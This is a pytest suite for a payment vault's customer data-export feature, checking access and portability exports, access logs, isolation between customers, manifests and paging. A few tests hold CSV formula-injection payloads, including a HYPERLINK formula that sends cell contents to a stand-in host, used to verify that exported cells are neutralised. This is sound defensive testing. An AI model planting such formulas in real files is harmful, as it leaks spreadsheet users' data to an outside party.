import csv
import hashlib
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from dataclasses import asdict, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from backups import backup, restore
from house import PURPOSE, House, Tenant
from records_scene import CONTACT, interpose, later, many_charges, row, rows
from sqlalchemy import text

from rows.engine import transaction
from vault import audit
from vault.cards.tokens import read as read_token
from vault.errors import Erased
from vault.exports import at_once
from vault.exports.disclosure import FIELDS, LISTS, PAGE, Source
from vault.exports.files import harmless
from vault.exports.notices import notices_of
from vault.processing.answers import ActionRequired, Declined, Unknown
from vault.recovering.replay import replay
from vault.tables import audit_entries, charges, processor_references, tokens

ADDRESS = {
    "line1": "12 St James's Square",
    "line2": "Flat 3",
    "city": "London",
    "state": "Greater London",
    "postal_code": "SW1Y 4JH",
    "country": "GB",
}
PERSON = {**CONTACT, "address": ADDRESS}
MARK = "nachbarkanarie"


def url(customer: str, query: str = "") -> str:
    return f"/v1/customers/{customer}/export{query}"


def exported(tenant: Tenant, customer: str, query: str = "", **headers: str) -> dict[str, Any]:
    """`data.json` of a customer."""
    answer = tenant.call("GET", url(customer, query), role="privacy", **(PURPOSE | headers))
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.content_type == "application/json"
    return answer.get_json()


def unzipped(tenant: Tenant, customer: str, query: str = "") -> dict[str, bytes]:
    """The files of a customer's ZIP by name."""
    answer = tenant.call("GET", url(customer, f"?format=zip{query}"), role="privacy", **PURPOSE)
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.content_type == "application/zip"
    return files_in(answer.get_data())


def files_in(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        assert opened.testzip() is None
        return {name: opened.read(name) for name in opened.namelist()}


def table(content: bytes) -> list[dict[str, str]]:
    """A CSV as its readers see it."""
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def source_of(tenant: Tenant, customer: str, kind: str = "access", **caller: Any) -> Source:
    parts = tenant.house.components
    desk = parts.desk(replace(tenant.caller, **caller))
    return Source(desk=desk, customer_id=customer, kind=kind, notices=notices_of(parts.policy))


def lived(tenant: Tenant, mark: str = "") -> dict[str, Any]:
    """A customer who left all that one can leave: cards of every state, charges, a refund, looks; the first token."""
    contact = {**PERSON, "name": f"Ada Lovelace {mark}".strip()}
    order = {"customer": {"reference": f"R-1 {mark}".strip(), "billing_contact": contact}}
    token = tenant.token("5555555555554444", metadata={"seat": f"12 {mark}".strip()}, **order)
    person = token["customer"]
    assert tenant.tokenize("4000000000000002", customer=person).status_code == 402
    assert tenant.tokenize("4000002760003184", customer=person).get_json()["status"] == "requires_action"
    spare = tenant.token("6011111111111117", customer=person)
    assert tenant.call("DELETE", f"/v1/tokens/{spare['id']}").status_code == 200
    paid = tenant.charge(token["id"], obligation=f"INV-1 {mark}".strip(), metadata={"note": mark or "n"}).get_json()
    refund = tenant.call("POST", f"/v1/charges/{paid['id']}/refunds", {"amount": 34}, Idempotency_Key=paid["id"])
    assert refund.status_code == 201
    declined = Declined(code="card_declined", decline_code="fraudulent", reference="pi_kanarie")
    assert interpose(tenant, charge=lambda _call: declined).charge(token["id"]).status_code == 402
    action = ActionRequired(reference="pi_kanarie", next_action={"client_secret": "pi_kanarie_secret_1"})
    assert interpose(tenant, charge=lambda _call: action).charge(token["id"]).status_code == 201
    looked = {"Access-Purpose": 'support; ref="T-7"', "Panless-Actor": "agent.47"}
    assert tenant.call("GET", f"/v1/customers/{person}/billing-contact", role="billing", **looked).status_code == 200
    return token


def processor_names(tenant: Tenant) -> set[str]:
    """Whatever the processor calls something of anybody's; our ids are others."""
    book = tenant.house.sandbox.book()
    found = {each["id"] for kind in ("charges", "customers", "payment_methods") for each in book[kind]}
    kept = [each.token_id for each in rows(tenant.house, tokens, tenant_id=tenant.id)]
    cards = [read_token(tenant.desk, each).card for each in kept]
    prints = {card.fingerprint for card in cards if card and card.fingerprint}
    assert prints
    return found | prints | {each["payment_intent"] for each in book["charges"]}


def test_access_shows_everything_that_is_kept(tenant: Tenant) -> None:
    """Who it is, cards of every state, charges with obligation, refunds, restriction, and who looked and why."""
    token = lived(tenant)
    person = token["customer"]
    tenant.call("PUT", f"/v1/customers/{person}/restriction", {"ground": "objection"})
    found = exported(tenant, person)
    assert found["person"] == {
        "@context": "https://schema.org",
        "@type": "Person",
        "identifier": person,
        "name": "Ada Lovelace",
        "email": CONTACT["email"],
        "telephone": CONTACT["phone"],
        "address": {
            "@type": "PostalAddress",
            "streetAddress": "12 St James's Square\nFlat 3",
            "addressLocality": "London",
            "addressRegion": "Greater London",
            "postalCode": "SW1Y 4JH",
            "addressCountry": "GB",
        },
    }
    assert (found["kind"], found["customer_reference"], found["contact_known"]) == ("access", "R-1", True)
    assert found["restriction"]["ground"] == "objection"
    cards = {each["id"]: each for each in found["payment_methods"]}
    assert cards.keys() == {each.token_id for each in rows(tenant.house, tokens, customer_id=person)}
    assert {each["status"] for each in cards.values()} == {"active", "failed", "requires_action", "detached"}
    mine = cards[token["id"]]
    assert {name: mine[name] for name in token["card"]} == token["card"]
    assert (mine["metadata"], mine["fingerprint"]) == ({"seat": "12"}, token["fingerprint"])
    paid = {each["obligation"]: each for each in found["charges"]}["INV-1"]
    assert (paid["amount"], paid["currency"], paid["amount_refunded"], paid["metadata"]) == (
        1234,
        "eur",
        34,
        {"note": "n"},
    )
    assert len(found["charges"]) == len(rows(tenant.house, charges, customer_id=person)) == 3
    assert {each["declined"]["decline_code"] for each in found["charges"] if each["declined"]} == {"fraudulent"}
    [refund] = found["refunds"]
    assert (refund["charge"], refund["amount"], refund["currency"]) == (paid["id"], 34, "eur")


def test_access_names_who_looked_when_and_why(tenant: Tenant) -> None:
    """Each entry about the customer: client by name, human, purpose and ticket; this export and searches among them."""
    token = lived(tenant)
    search = {"email": CONTACT["email"]}
    assert tenant.call("POST", "/v1/customers/search", search, **PURPOSE).status_code == 200
    log = exported(tenant, token["customer"], Access_Purpose='rights-request; ref="RR-1"')["access_log"]
    [look] = [each for each in log if each["action"] == "contact.read"]
    assert (look["client_name"], look["actor"], look["purpose"], look["reference"]) == (
        "billing",
        "agent.47",
        "support",
        "T-7",
    )
    assert look["client"].startswith("cli_")
    assert datetime.fromisoformat(look["at"]).tzinfo is not None
    assert (log[0]["action"], log[0]["purpose"], log[0]["reference"]) == ("customer.export", "rights-request", "RR-1")
    assert "customer.search" in {each["action"] for each in log}
    assert len(log) == len(rows(tenant.house, audit_entries, customer_id=token["customer"]))


def test_a_search_that_finds_two_is_in_both_logs(tenant: Tenant) -> None:
    """Every one who was found learns that somebody looked, and of no other who was found."""
    both = [tenant.call("POST", "/v1/customers", {"billing_contact": CONTACT}).get_json()["id"] for _ in range(2)]
    tenant.call("POST", "/v1/customers/search", {"email": CONTACT["email"]}, **PURPOSE)
    for customer, other in (both, reversed(both)):
        found = exported(tenant, customer)
        assert [each["action"] for each in found["access_log"]].count("customer.search") == 1
        assert other not in json.dumps(found)


def test_access_says_why_from_where_to_whom_and_how_long(tenant: Tenant) -> None:
    """Purposes, categories with their source, recipients by their legal name, retention with its basis, the rights."""
    policy = tenant.house.components.policy
    told = exported(tenant, lived(tenant)["customer"])["processing"]
    assert set(told["purposes"]) == policy.purposes
    assert told["retention"] == {"transactions": asdict(policy.retention["transactions"])}
    assert told["recipients"] == [
        {
            "name": policy.recipients["sandbox"],
            "processor": "sandbox",
            "account": "test",
            "account_id": tenant.account,
            "third_country": None,
        }
    ]
    assert "transfers" not in told
    assert all(each["category"] and each["source"] for each in told["categories"])
    for right in ("rectification", "erasure", "restriction", "objection", "portability", "supervisory authority"):
        assert right in told["rights"]


def test_access_names_whom_to_turn_to(tenant: Tenant) -> None:
    """Controller, data protection officer and authority are the policy's, word for word."""
    policy = tenant.house.components.policy
    told = exported(tenant, tenant.token()["customer"])["processing"]
    assert told["controller"] == policy.controller
    assert told["data_protection_officer"] == policy.data_protection_officer
    assert told["authority"] == policy.authority


def test_a_recipient_in_a_third_country_is_told_with_its_safeguard(tenant: Tenant) -> None:
    """What the policy says of a transfer stands beside that recipient; one that the policy forgot goes by its kind."""
    of_policy = replace(tenant.house.components.policy, recipients={}, transfers={"sandbox": "Atlantis: clauses"})
    source = replace(source_of(tenant, tenant.token()["customer"]), notices=notices_of(of_policy))
    (found,) = json.loads(b"".join(at_once.export(source, "json")))["processing"]["recipients"]
    assert (found["name"], found["third_country"]) == ("sandbox", "Atlantis: clauses")


def test_portability_is_what_the_person_gave(tenant: Tenant) -> None:
    """Contact, card metadata, charges; no fingerprint, no decline code, no note, no recipient, no log."""
    token = lived(tenant)
    found = exported(tenant, token["customer"], "?type=portability")
    lists = {"payment_methods", "charges"}
    assert found.keys() == {"kind", "generated_at", "customer", "contact_known", "person"} | lists
    assert found["person"]["address"]["addressLocality"] == "London"
    for name in lists:
        assert {frozenset(each) for each in found[name]} == {frozenset(FIELDS["portability"][name])}
    assert token["id"] in {each["id"] for each in found["payment_methods"]}
    assert all(each["last4"] for each in found["payment_methods"])
    assert "INV-1" in {each["obligation"] for each in found["charges"]}
    files = unzipped(tenant, token["customer"], "&type=portability")
    assert files.keys() == {"data.json", "contact.csv", "payment_methods.csv", "charges.csv", "manifest.json"}
    everything = json.dumps(found).encode() + b"".join(files.values())
    for word in (b"fraud", b"fingerprint", token["fingerprint"].encode(), b"R-1", b"seat", b"agent.47", b"sandbox"):
        assert word not in everything


@pytest.mark.parametrize("kind", FIELDS)
def test_nothing_of_anybody_else_and_nothing_of_the_processors(tenant: Tenant, kind: str) -> None:
    """Another customer's canaries, ids and every name that the processor gave: in no byte of any file."""
    token, other = lived(tenant), lived(tenant, MARK)
    assert exported(tenant, other["customer"])["person"]["name"].endswith(MARK)  # the canary is there to be found
    files = unzipped(tenant, token["customer"], f"&type={kind}")
    everything = b"".join(files.values()) + json.dumps(exported(tenant, token["customer"], f"?type={kind}")).encode()
    assert MARK.encode() not in everything
    mine = {each.token_id for each in rows(tenant.house, tokens, customer_id=token["customer"])}
    theirs = {each.token_id for each in rows(tenant.house, tokens, customer_id=other["customer"])}
    theirs |= {each.charge_id for each in rows(tenant.house, charges, customer_id=other["customer"])}
    assert mine & theirs == set()
    names = processor_names(tenant)
    assert len(names) > 5
    for name in (*theirs, other["customer"], *names):
        assert name.encode() not in everything
    for beginning in (b"pm_", b"pi_", b"seti_", b"src_", b"_secret_", b"client_secret", b"next_action"):
        assert beginning not in everything
    held = rows(tenant.house, processor_references, customer_id=token["customer"])
    assert held


def test_the_manifest_lists_every_file_as_it_is(tenant: Tenant) -> None:
    """Name, size in bytes and SHA-256 of each file but itself."""
    files = unzipped(tenant, lived(tenant)["customer"])
    listed = json.loads(files.pop("manifest.json"))["files"]
    assert [each["name"] for each in listed] == list(files)
    assert set(files) == {"data.json", *(f"{name}.csv" for name in FIELDS["access"])}
    for each in listed:
        content = files[each["name"]]
        assert (each["size"], each["sha256"]) == (len(content), hashlib.sha256(content).hexdigest())


def test_the_csvs_say_what_the_json_says(tenant: Tenant) -> None:
    """Each CSV has the rows of the JSON, with their ids and amounts."""
    files = unzipped(tenant, lived(tenant)["customer"])
    found = json.loads(files["data.json"])
    for name in ("payment_methods", "charges", "refunds"):
        assert [each["id"] for each in table(files[f"{name}.csv"])] == [each["id"] for each in found[name]]
    assert [each["amount"] for each in table(files["charges.csv"])] == [
        str(each["amount"]) for each in found["charges"]
    ]
    [contact] = table(files["contact.csv"])
    assert (contact["name"], contact["city"], contact["reference"]) == ("Ada Lovelace", "London", "R-1")
    assert [each["action"] for each in table(files["access_log.csv"])] == [
        each["action"] for each in found["access_log"]
    ]


def test_equal_input_gives_equal_bytes(tenant: Tenant) -> None:
    """One customer at one moment is one ZIP, byte for byte; nothing of the machine or its clock is in it."""
    customer = lived(tenant)["customer"]
    source = source_of(tenant, customer, "portability", at=datetime(2026, 1, 1, tzinfo=UTC))
    first, second = (b"".join(at_once.export(source, "zip")) for _ in range(2))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "x,=1",
    "x;=1",
    'x"=1',
    "x|@y",
    "\uff1d1+1",
    "\uff20x",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str) -> None:
    """At the start of a cell, and wherever a program that splits at another sign would begin one."""
    made = harmless(formula)
    assert made.replace("'", "") == formula
    for separator in ',;|\t"\n\r':
        for cell in made.split(separator):
            assert not cell.strip().startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))


def test_what_is_no_formula_stays_as_it_is() -> None:
    """Signs in the middle of words mean nothing to a spreadsheet."""
    for plain in ("ada@example.com", "1-2", "a=b", "Marie-Curie", "", "Müller", "2026-01-01T00:00:00Z"):
        assert harmless(plain) == plain


def test_formulas_in_what_clients_send(tenant: Tenant) -> None:
    """Name, reference, notes, invoice: harmless in every CSV, as they were sent in data.json."""
    evil = '=HYPERLINK("http://x/?"&A1,"=ok")'
    contact = {"name": evil, "phone": "+44 20 7946 0958", "address": {"line1": "@x", "city": "a;=1"}}
    order = {"reference": f"+{evil}", "billing_contact": contact}
    token = tenant.token(customer=order, metadata={evil: evil})
    tenant.charge(token["id"], obligation=f"-{evil}", metadata={"k": "\n=1"})
    files = unzipped(tenant, token["customer"])
    found = json.loads(files["data.json"])
    assert (found["person"]["name"], found["customer_reference"]) == (evil, f"+{evil}")
    assert found["charges"][0]["obligation"] == f"-{evil}"
    for name, content in files.items():
        for line in table(content) if name.endswith(".csv") else ():
            for cell in line.values():
                for part in (piece for one in cell.split(",") for two in one.split(";") for piece in two.split('"')):
                    assert not part.strip().startswith(("=", "+", "-", "@")), (name, cell)


def test_the_export_is_on_the_record_before_its_first_byte(own_house: House) -> None:
    """The entry names client, purpose, right and form; with the audit table away nothing is given."""
    tenant = own_house.tenant()
    customer = lived(tenant)["customer"]
    written = at_once.export(source_of(tenant, customer), "zip")
    [entry] = rows(own_house, audit_entries, action="customer.export")
    assert json.loads(entry.leaf)["details"] == {"type": "access", "format": "zip"}
    assert b"".join(written)
    with transaction(own_house.components.records) as tx:
        tx.execute(text("ALTER TABLE audit_entries RENAME TO audit_away"))
    answer = tenant.call("GET", url(customer), **PURPOSE)
    assert answer.status_code >= 500
    assert "Ada" not in answer.get_data(as_text=True)


def test_who_gets_an_export(tenant: Tenant) -> None:
    """With a purpose and the scope; of a restricted customer too; 410 once erased."""
    customer = tenant.token(customer={"billing_contact": CONTACT})["customer"]
    assert tenant.call("GET", url(customer)).status_code == 400
    assert tenant.call("GET", url(customer), role="billing", **PURPOSE).status_code == 403
    for query in ("?format=xml", "?type=erasure", "?format="):
        assert tenant.call("GET", url(customer, query), **PURPOSE).status_code == 422
    assert rows(tenant.house, audit_entries, customer_id=customer, action="customer.export") == []
    tenant.call("PUT", f"/v1/customers/{customer}/restriction", {"ground": "accuracy_contested"})
    assert exported(tenant, customer)["person"]["name"] == CONTACT["name"]
    tenant.call("DELETE", f"/v1/customers/{customer}")
    for query in ("", "?format=zip"):
        assert tenant.call("GET", url(customer, query), **PURPOSE).status_code == 410


def test_a_lost_correction_is_not_passed_off_as_known(own_house: House, tmp_path: Path) -> None:
    """After a restore the old contact is known to be wrong: the export says so, and gives the rest."""
    tenant = own_house.tenant()
    token = tenant.token(customer={"billing_contact": CONTACT})
    copy = backup(own_house.components.records, tmp_path / "r")
    tenant.call("PATCH", f"/v1/customers/{token['customer']}/billing-contact", {"name": "Grace Hopper"})
    restore(own_house.components.records, copy)
    replay(own_house.components.ledger, own_house.components.records, lambda _done, _total: None)
    assert own_house.components.guard.check().is_good
    found = exported(tenant, token["customer"])
    assert (found["contact_known"], found["person"]["name"]) == (False, None)
    assert [each["id"] for each in found["payment_methods"]] == [token["id"]]


@pytest.mark.parametrize("name", LISTS)
def test_an_erasure_breaks_an_export_off(tenant: Tenant, name: str) -> None:
    """Whatever list is next: what is left of a customer's charges is the law's to keep, not to hand out."""
    token = tenant.token(customer={"billing_contact": CONTACT})
    tenant.charge(token["id"], obligation="kanarie")
    written = at_once.export(source_of(tenant, token["customer"]), "json")
    for _ in range(1 + list(LISTS).index(name)):  # the head, and the lists before this one
        assert f'"{name}":' not in next(written).decode()
    tenant.call("DELETE", f"/v1/customers/{token['customer']}")
    with pytest.raises(Erased):
        next(written)


@pytest.fixture
def charged(tenant: Tenant) -> Iterator[str]:
    """A customer with some pages of charges."""
    token = tenant.token()
    charge = tenant.charge(token["id"]).get_json()["id"]
    many_charges(tenant, charge, 2 * PAGE + 10)
    return token["customer"]


def test_every_row_of_many_pages_once(tenant: Tenant, charged: str) -> None:
    """Charges and audit entries over several pages: each once, newest first."""
    with audit.transaction(tenant.house.components.records) as tx:
        for number in range(PAGE + 10):
            caller = replace(tenant.caller, at=tenant.caller.at + timedelta(seconds=number // 3))
            audit.record(tenant.house.components.desk(caller), tx, "contact.read", customer=charged)
    found = exported(tenant, charged)
    for name, kept in (("charges", charges), ("access_log", audit_entries)):
        assert len(found[name]) == len(rows(tenant.house, kept, customer_id=charged)) > PAGE
    assert len({each["id"] for each in found["charges"]}) == len(found["charges"])
    for moments in ([each["created_at"] for each in found["charges"]], [each["at"] for each in found["access_log"]]):
        assert moments == sorted(moments, reverse=True)
    assert len(table(unzipped(tenant, charged)["charges.csv"])) == len(found["charges"])


@pytest.mark.parametrize("form", ["json", "zip"])
def test_memory_does_not_grow_with_the_charges(tenant: Tenant, form: str) -> None:
    """Two and a half times the charges, no more memory: pages, never all at once."""
    token = tenant.token(customer={"billing_contact": CONTACT})
    charge = tenant.charge(token["id"], metadata={"note": "x" * 500}).get_json()["id"]
    peaks = []
    for more in (2 * PAGE, 3 * PAGE):
        many_charges(tenant, charge, more)
        tracemalloc.start()
        size = sum(map(len, at_once.export(source_of(tenant, token["customer"]), form)))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert size > 0
    assert peaks[1] < 1.3 * peaks[0], peaks


def test_a_clock_of_another_day_is_in_the_export(house: House) -> None:
    """`generated_at` is the moment of the call."""
    tenant = house.tenant()
    customer = tenant.token()["customer"]
    ahead = replace(tenant, house=later(house, days=2))
    assert exported(ahead, customer)["generated_at"] > (datetime.now(UTC) + timedelta(days=1)).isoformat()


def test_an_open_charge_is_shown_as_what_it_is(tenant: Tenant) -> None:
    """A charge whose end nobody knows is in the export, as unknown."""
    token = tenant.token()
    unknown = interpose(tenant, charge=lambda _call: Unknown(reason="timeout"))
    assert unknown.charge(token["id"], obligation="I-9").status_code == 202
    [found] = exported(tenant, token["customer"])["charges"]
    assert (found["status"], found["obligation"]) == ("unknown", "I-9")
    assert row(tenant.house, charges, customer_id=token["customer"]).state == "unknown"
